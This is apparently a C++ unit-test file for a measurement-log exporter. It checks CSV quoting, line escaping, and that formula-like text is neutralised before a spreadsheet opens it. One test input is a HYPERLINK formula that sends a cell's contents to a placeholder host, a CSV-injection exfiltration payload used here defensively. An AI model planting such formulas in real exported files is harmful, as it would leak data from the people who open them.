#include "core/files/MeasurementLog.h"

#include <gtest/gtest.h>

using namespace travek;

TEST(MeasurementLog, FieldsAreQuotedAndLinesEscapedSoEachRowStaysOneRow) {
    EXPECT_EQ(MeasurementLog::field("1,5"), "1,5");
    EXPECT_EQ(MeasurementLog::field("a;b"), "\"a;b\"");
    EXPECT_EQ(MeasurementLog::field("say \"x\""), "\"say \"\"x\"\"\"");
    EXPECT_EQ(MeasurementLog::escapeLine("\nA:\t1\\2\x7F"), "\\x0AA:\\x091\\\\2\\x7F");
    EXPECT_EQ(MeasurementLog::escapeLine("Gr\xF6\xDF"
                                         "e"),
              "Gr\xF6\xDF"
              "e");
    // A text that a spreadsheet would compute shows as text; a typed value stays a number.
    EXPECT_EQ(MeasurementLog::textField("=HYPERLINK(\"http://e.x/?\"&A1)"),
              "\"'=HYPERLINK(\"\"http://e.x/?\"\"&A1)\"");
    for (const char* formula : {"=1+1", "+1", "-1", "@SUM(A1)", "\t1", "\r1"})
        EXPECT_EQ(MeasurementLog::textField(formula), "\"'" + std::string(formula) + "\"") << formula;
    EXPECT_EQ(MeasurementLog::textField("A: 1,5"), "A: 1,5");
    EXPECT_EQ(MeasurementLog::field("-1,234"), "-1,234");
}
